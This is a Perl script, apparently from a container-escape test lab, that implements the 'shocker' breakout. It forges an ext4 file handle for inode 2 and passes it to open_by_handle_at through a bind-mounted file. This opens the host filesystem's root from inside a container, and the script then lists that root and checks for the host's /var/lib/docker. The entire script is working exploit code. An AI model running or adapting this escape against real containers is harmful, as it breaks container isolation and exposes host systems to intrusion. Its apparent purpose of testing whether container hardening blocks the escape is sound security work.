# The "shocker" escape: open_by_handle_at with a handle made up by hand opens any
# inode of the filesystem behind a bind-mounted file, here its root directory
# (ext4: inode 2, generation 0), bypassing the container's mount namespace.
# Usage: perl open-by-handle.pl <bind-mounted file, e.g. /etc/hostname>
require '/tmp/nslab-escapes/syscall.pl';
my ($target) = @ARGV;
open(my $mount, '<', $target) or die "open $target: $!\n";
# struct file_handle { u32 handle_bytes = 8; i32 handle_type = FILEID_INO32_GEN; u32 ino = 2; u32 gen = 0; }
my $handle = pack('IiII', 8, 1, 2, 0);
my $fd = syscall(nr('open_by_handle_at'), fileno($mount), $handle, 0);
refused() if $fd < 0;
opendir(my $dir, "/proc/self/fd/$fd") or die "opendir: $!\n";
my @entries = sort grep { !/^\./ } readdir $dir;
my $docker = -d "/proc/self/fd/$fd/var/lib/docker" ? 'host /var/lib/docker visible' : 'no /var/lib/docker';
print "escaped: $docker; root holds @entries\n";
